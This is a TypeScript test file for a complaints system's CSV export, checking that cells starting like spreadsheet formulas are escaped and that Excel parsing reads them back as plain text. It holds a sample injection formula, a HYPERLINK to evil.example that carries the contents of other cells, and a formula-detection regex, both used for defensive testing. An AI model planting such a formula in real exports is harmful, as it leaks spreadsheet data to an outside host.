import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, csvDocument, csvRecord, looksLikeFormula } from '#domain/csv.ts';
import type { ReportRow } from '#domain/report/aggregate.ts';
import { csvHeader, csvLines } from '#domain/report/csv.ts';
import { type CsvWords, csvFileName, type ListItem, toCsv } from '../../web/src/staff/complaints-csv.ts';
import { hostileString } from '../security/hostile.ts';

/**
 * Every CSV the product writes (the staff list export, the report's files) goes through
 * #domain/csv.ts: read back as Excel reads it (RFC 4180), each cell is what was written, or
 * that text behind a `'` when a spreadsheet would have run it as a formula.
 */

/** A whole CSV document (RFC 4180, as Excel reads it) into its records and cells. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i += 1;
    } else cell += char;
  }
  if (cell !== '' || record.length) {
    record.push(cell);
    records.push(record);
  }
  return records;
}

/** What a spreadsheet runs: a formula start after blanks, or a leading tab or CR (written out here, apart from the code). */
const FORMULA = /^[\t\r]|^[ \t\r\n\u00a0\u3000]*[=+\-@＝＋－＠]/;

/** Names as the app's catalogues give them; the words are not what is tested here. */
const WORDS: CsvWords = {
  t: (key) => key,
  tOr: (_key, fallback) => fallback,
  areaName: (id) => id,
  categoryName: (id) => id,
  departmentName: (id) => id,
  stepName: (id) => id,
  formatDateTime: (iso) => iso,
};

const PROBE = '=HYPERLINK("http://evil.example/?"&C2&D2,"詳情")';

const listItem = (ownerName: string, building = '海濱花園'): ListItem => ({
  ref: 'KE-2611-0001',
  receivedAt: '2026-11-02T01:00:00.000Z',
  channel: 'email',
  area: 'kowloon-east',
  building,
  unit: '12樓B室',
  status: 'open',
  currentStep: 'supervisorReview',
  ownerName,
});

describe('CSV cells', () => {
  it('defuse the ASCII and full-width formula starts, also behind blanks, and quote what needs it', () => {
    expect(csvCell(PROBE)).toBe(`"'=HYPERLINK(""http://evil.example/?""&C2&D2,""詳情"")"`);
    for (const start of ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', ' =', '\u3000＝', '\n+'])
      expect(csvCell(`${start}1+1`)).toMatch(/^"?'/);
    expect(csvCell('＝1+1')).toBe("'＝1+1");
    expect(csvCell('a;=1')).toBe('"a;=1"');
    expect(csvCell('陳大文')).toBe('陳大文');
    expect(csvCell('a=1')).toBe('a=1');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(undefined)).toBe('');
    expect(csvRecord(['a', 1, ''])).toBe('a,1,\r\n');
    expect(csvDocument(['x', 'y'], [['1', '2']])).toBe(`${CSV_BOM}x,y\r\n1,2\r\n`);
  });

  it('read back as the text written, or that text as text when it could run as a formula', () => {
    fc.assert(
      fc.property(fc.array(hostileString, { minLength: 1, maxLength: 6 }), (cells) => {
        const [parsed] = parseCsv(csvRecord(cells));
        expect(parsed).toEqual(cells.map((cell) => (FORMULA.test(cell) ? `'${cell}` : cell)));
        for (const cell of parsed ?? []) expect(FORMULA.test(cell)).toBe(false);
        expect(cells.every((cell) => looksLikeFormula(cell) === FORMULA.test(cell))).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('every CSV writer uses them', () => {
  it('the staff list export: a display name set by email is text in Excel, not a live link', () => {
    const hostile = { ...listItem(PROBE, '+852 大廈'), summary: '=1+1 漏水', ownerPhone: '+852 9123 4567' };
    const csv = toCsv([hostile, listItem('陳大文')], WORDS, { withContacts: true });
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const [header, first, second] = parseCsv(csv.slice(1));
    expect(first?.length).toBe(header?.length);
    const column = (key: string) => header?.indexOf(key) ?? -1;
    expect(first?.[column('csv.owner')]).toBe(`'${PROBE}`);
    expect(first?.[column('csv.building')]).toBe("'+852 大廈");
    expect(first?.[column('csv.summary')]).toBe("'=1+1 漏水");
    // A phone typed with its + is text too (a spreadsheet would add it up).
    expect(first?.[column('csv.phone')]).toBe("'+852 9123 4567");
    expect(second?.[column('csv.owner')]).toBe('陳大文');
    // Without the right to list contacts, the columns are not there at all.
    const [plainHeader] = parseCsv(toCsv([hostile], WORDS, { withContacts: false }).slice(1));
    expect(plainHeader).not.toContain('csv.phone');
    expect(plainHeader).not.toContain('csv.email');
    expect(plainHeader?.length).toBe((header?.length ?? 0) - 2);
  });

  it('the report’s files: the same cells as the list export', () => {
    fc.assert(
      fc.property(hostileString, (building) => {
        const row = {
          ref: 'KE-2611-0001',
          receivedAt: '2026-11-02T01:00:00.000Z',
          channel: 'email',
          area: 'kowloon-east',
          building,
          status: 'open',
        } as ReportRow;
        const [reportRecord] = parseCsv(csvLines(row, { deadlinesMet: 0, deadlinesMissed: 0 })[0] ?? '');
        const [, listRecord] = parseCsv(
          toCsv([listItem('x', building)], WORDS, { withContacts: false }).slice(1),
        );
        expect(reportRecord?.[3]).toBe(listRecord?.[4]);
        expect(parseCsv(csvHeader('en').slice(1))[0]?.length).toBe(reportRecord?.length);
      }),
      { numRuns: 300 },
    );
  });
});

describe('the list export’s file name', () => {
  it('is the company’s date in Hong Kong, not the UTC date', () => {
    // 7 Dec 01:00 in Hong Kong is still 6 Dec in UTC.
    expect(csvFileName(new Date('2026-12-06T17:00:00Z'))).toBe('complaints-2026-12-07.csv');
    expect(csvFileName(new Date('2026-12-06T15:59:59Z'))).toBe('complaints-2026-12-06.csv');
    expect(csvFileName(new Date('2026-12-31T16:00:00Z'))).toBe('complaints-2027-01-01.csv');
  });
});
